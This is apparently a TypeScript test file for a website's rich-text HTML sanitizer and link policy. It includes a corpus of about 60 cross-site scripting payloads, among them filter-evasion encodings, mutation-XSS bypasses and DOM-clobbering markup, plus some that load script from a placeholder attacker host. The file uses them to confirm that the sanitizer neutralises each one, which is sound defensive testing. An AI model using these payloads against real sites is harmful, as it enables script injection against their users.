import { JSDOM, VirtualConsole } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { classifyLink } from './link-policy';
import { createRichTextSanitizer, EXTERNAL_LINK_REL } from './rich-text';

/**
 * Payloads in the style of the OWASP XSS filter-evasion cheat sheet and published DOMPurify bypasses (mutation
 * XSS). Each one is executable, or would be in some browser, if rendered as given.
 */
const XSS_CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href="jav&#x0D;ascript:alert(1)">carriage return</a>',
  '<a href=" &#14;  javascript:alert(1)">leading control</a>',
  '<a href="\u0001javascript:alert(1)">raw control</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="&#106;avascript:alert(1)">decimal entity</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
  '<a href="javascript&colon;alert(1)">named entity</a>',
  '<div><a href="java&NewLine;script:alert(1)">named newline</a></div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="https://medium.com/" onclick="alert(1)">allowed host, handler</a>',
  '<a href="javascript:alert(1)"><img src=x onerror=alert(2)></a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><a xlink:href="javascript:alert(1)">math link</a></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<listing>&lt;img onerror=alert(1) src=a&gt;</listing>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://xss.example/scriptlet.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:alert(1)"><input type=submit value=go></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  `<BASE HREF="javascript:alert('XSS');//">`,
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'https://xss.example/xss.css';</style>",
  '<p style="background-image: url(javascript:alert(1))">background</p>',
  `<div style="width: expression(alert('XSS'));">expression</div>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>cell</td></tr></TABLE>`,
  '<img srcset="javascript:alert(1) 1x">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<input autofocus onfocus=alert(1)>',
  '<p onmouseover="alert(1)">hover</p>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img name="getElementById" src="https://cdn.example.net/a.png">',
  '<form id="location"><input name="href"></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
];

const SITE = 'w2ehub.io';
// A silent console: jsdom reports the corpus's broken CSS, which is the point of the corpus.
const quiet = { virtualConsole: new VirtualConsole() };
const { window } = new JSDOM('', quiet);
const sanitizer = createRichTextSanitizer({ window, siteHost: SITE });
const sanitize = (html: string) => sanitizer.sanitize(html);

const EXECUTABLE_TAGS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'meta',
  'link',
  'style',
  'base',
  'svg',
  'math',
  'template',
  'noscript',
  'xmp',
  'listing',
  'plaintext',
  'video',
  'audio',
  'source',
]);
/** Attributes that run code, load active content or clobber the DOM, whatever their value. */
const EXECUTABLE_ATTRIBUTES = new Set([
  'style',
  'srcdoc',
  'formaction',
  'action',
  'background',
  'srcset',
  'data',
  'http-equiv',
  'id',
  'name',
  'poster',
  'dynsrc',
  'lowsrc',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'xlink:href']);

function isWebUrl(value: string): boolean {
  let cleaned = value.replace(/[\t\n\r]/g, '');
  while (cleaned !== '' && cleaned.charCodeAt(0) <= 0x20) cleaned = cleaned.slice(1);
  try {
    return ['http:', 'https:'].includes(new URL(cleaned, `https://${SITE}/`).protocol);
  } catch {
    return false;
  }
}

/** What in this HTML could run script, as a browser would parse it both as a document and into a div. */
function findExecutable(html: string): string[] {
  const found: string[] = [];
  const documentBody = new JSDOM(`<!doctype html><body>${html}</body>`, quiet).window.document.body;
  const container = window.document.createElement('div');
  container.innerHTML = html;
  for (const root of [documentBody, container]) {
    for (const element of [root, ...Array.from(root.querySelectorAll('*'))]) {
      const tag = element.localName;
      if (EXECUTABLE_TAGS.has(tag)) found.push(`<${tag}>`);
      for (const { name, value } of Array.from(element.attributes)) {
        if (name.startsWith('on') || EXECUTABLE_ATTRIBUTES.has(name)) found.push(`${tag}[${name}]`);
        if (URL_ATTRIBUTES.has(name) && !isWebUrl(value)) found.push(`${tag}[${name}=${value}]`);
      }
    }
  }
  if (/<\s*\/?\s*(script|iframe|svg|math|style|form|object|embed|meta|link|base|template)\b/i.test(html)) {
    found.push('markup of an executable tag');
  }
  return found;
}

describe('rich-text sanitizer against an XSS corpus', () => {
  it(`holds at least 40 payloads, each one caught by the detector when left raw`, () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(40);
    for (const payload of XSS_CORPUS) expect(findExecutable(payload), payload).not.toEqual([]);
  });

  it.each(XSS_CORPUS.map((payload) => [payload]))('leaves nothing executable in %s', (payload) => {
    const clean = sanitize(payload);
    expect(findExecutable(clean)).toEqual([]);
    // Mutation XSS shows up on a second pass: what the browser re-parses must sanitise to itself.
    expect(sanitize(clean)).toBe(clean);
  });

  it('keeps the visible text of what it removes', () => {
    expect(sanitize('<a href="javascript:alert(1)">click me</a>')).toBe('click me');
    expect(sanitize('<p onmouseover="alert(1)">hover</p>')).toBe('<p>hover</p>');
    expect(sanitize('<p style="color:red" class="x" id="y">styled</p>')).toBe('<p>styled</p>');
    expect(sanitize('<script>alert(1)</script><p>after</p>')).toBe('<p>after</p>');
    expect(sanitize('<img src=x onerror=alert(1)>')).toBe('<img src="/x">');
  });
});

describe('rich-text link policy', () => {
  it('marks allowed outside links to open safely in a new tab', () => {
    expect(sanitize('<p>Read <a href="https://medium.com/@w2e/launch">our blog</a></p>')).toBe(
      `<p>Read <a href="https://medium.com/@w2e/launch" target="_blank" rel="${EXTERNAL_LINK_REL}">our blog</a></p>`,
    );
    const out = sanitize(
      '<a href="https://t.me/w2ehub" target="_self" rel="opener">chat</a><a href="https://play.google.com/store/apps/details?id=io.w2e">app</a>',
    );
    expect(out).toBe(
      `<a href="https://t.me/w2ehub" target="_blank" rel="${EXTERNAL_LINK_REL}">chat</a>` +
        `<a href="https://play.google.com/store/apps/details?id=io.w2e" target="_blank" rel="${EXTERNAL_LINK_REL}">app</a>`,
    );
  });

  it('keeps own-site, subdomain and relative links in the same tab', () => {
    expect(sanitize('<a href="https://w2ehub.io/event/x" target="_blank">event</a>')).toBe(
      '<a href="https://w2ehub.io/event/x">event</a>',
    );
    expect(sanitize('<a href="https://docs.w2ehub.io/">docs</a>')).toBe(
      '<a href="https://docs.w2ehub.io/">docs</a>',
    );
    expect(sanitize('<a href="event/x?type=nonstop">x</a>')).toBe('<a href="/event/x?type=nonstop">x</a>');
    expect(sanitize('<a href="#faq">faq</a>')).toBe('<a href="#faq">faq</a>');
  });

  it('replaces every other link by its text, formatting kept', () => {
    expect(sanitize('<p><a href="https://evil.com/"><strong>free</strong> tokens</a>!</p>')).toBe(
      '<p><strong>free</strong> tokens!</p>',
    );
    for (const href of [
      'https://evilmedium.com/',
      'https://t.me.evil.com/',
      'https://t.me@evil.com/',
      'https://evil.com@t.me/',
      '//evil.com/',
      'mailto:team@w2ehub.io',
    ]) {
      expect(sanitize(`<a href="${href}">link</a>`), href).toBe('link');
    }
    expect(sanitize('<a>no target</a>')).toBe('no target');
  });

  it('follows the hosts the caller configures', () => {
    const custom = createRichTextSanitizer({
      window,
      siteHost: 'localhost:5173',
      allowedHosts: ['example.org'],
    });
    expect(custom.sanitize('<a href="https://medium.com/">m</a>')).toBe('m');
    expect(custom.sanitize('<a href="https://www.example.org/">e</a>')).toBe(
      `<a href="https://www.example.org/" target="_blank" rel="${EXTERNAL_LINK_REL}">e</a>`,
    );
    expect(custom.classifyLink('http://localhost:5173/x')).toEqual(
      classifyLink('http://localhost:5173/x', { siteHost: 'localhost', allowedHosts: [] }),
    );
  });
});

describe('rich-text formatting', () => {
  it('keeps the formatting an editor produces', () => {
    const html =
      '<h2>Title</h2><h3>Sub</h3><h4>Minor</h4><p><strong>b</strong> <em>i</em> <u>u</u> <s>s</s> <mark>m</mark> x<sub>2</sub> y<sup>3</sup><br></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote><pre><code>const a = 1;</code></pre><hr>' +
      '<img src="https://cdn.example.net/a.png" alt="banner" width="600" height="300">';
    expect(sanitize(html)).toBe(html);
  });

  it('unwraps layout and heading tags it does not allow, keeping their text', () => {
    expect(sanitize('<h1>Big</h1><div><section>inside</section></div>')).toBe('Biginside');
    expect(sanitize('<table><tr><td>cell</td></tr></table>')).toBe('cell');
  });

  it('refuses a site host that is not a host name', () => {
    expect(() => createRichTextSanitizer({ window, siteHost: 'https://w2ehub.io' })).toThrow(TypeError);
    expect(() => createRichTextSanitizer({ window, siteHost: '' })).toThrow(TypeError);
  });
});
